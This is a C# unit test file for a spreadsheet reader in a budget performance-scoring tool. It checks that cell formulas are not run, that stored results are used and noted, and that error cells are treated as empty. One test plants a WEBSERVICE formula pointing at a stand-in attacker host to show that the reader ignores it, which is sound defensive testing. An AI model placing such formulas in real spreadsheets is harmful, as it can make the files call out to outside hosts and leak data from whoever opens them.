using DocumentFormat.OpenXml.Spreadsheet;
using PerformanceRules.Documents.Forms;
using PerformanceRules.Documents.Reading;
using PerformanceRules.Findings;
using PerformanceRules.Model;

namespace PerformanceRules.Documents.Tests;

/// <summary>A formula in a cell is not run: its stored result is taken, and said to be one.</summary>
public sealed class FormulaCellTests
{
    private static readonly string[][] Rows =
    [
        ["一级指标", "二级指标", "预算数", "执行数", "预算执行率", "分值", "得分"],
        ["当年预算执行情况", "资金总体", "200", "100", "50%", "20", "10"],
        ["三级指标"],
    ];

    [Fact]
    public void A_stored_result_is_taken_and_noted()
    {
        FormReading reading = Read(cell => cell.CellFormula = cell.CellReference == "C2" ? new CellFormula("WEBSERVICE(\"http://attacker.invalid\")") : null);

        Assert.Equal("200", ((ExecutionRateEvidence)Assert.Single(reading.Submission.Indicators).Evidence!).Budget!.Text);
        Assert.Contains(reading.Notes, note => note.ToText(Language.English) == "评分表!C2: \"200\" comes from a formula; its stored result is taken.");
    }

    [Fact]
    public void A_formula_without_a_result_is_an_empty_cell_and_noted()
    {
        FormReading reading = Read(cell =>
        {
            if (cell.CellReference == "C2")
            {
                cell.CellFormula = new CellFormula("1+1");
                cell.CellValue = null;
            }
        });

        Assert.Contains(TestData.Evaluate(reading).Findings, finding => finding.Code == FindingCodes.EvidenceMissing && finding.Indicator == "total-funds");
        Assert.Contains(reading.Notes, note => note.Kind == FormNoteKind.NotUnderstood && note.Place.ToString() == "评分表!C2");
    }

    [Fact]
    public void An_error_is_an_empty_cell_and_noted()
    {
        FormReading reading = Read(cell =>
        {
            if (cell.CellReference == "D2")
            {
                cell.DataType = CellValues.Error;
                cell.CellValue = new CellValue("#DIV/0!");
            }
        });

        Assert.Contains(reading.Notes, note => note.ToText(Language.English) == "评分表!D2: The cell holds the error #DIV/0!; it is taken as empty.");
    }

    private static FormReading Read(Action<Cell> change) =>
        TestData.Forms.Read(new MemoryStream(Documents.Xlsx(Rows, change)), "form.xlsx", new FormOptions { Unit = "某单位", Year = 2024, Rulebook = "beijing.department-overall" });
}
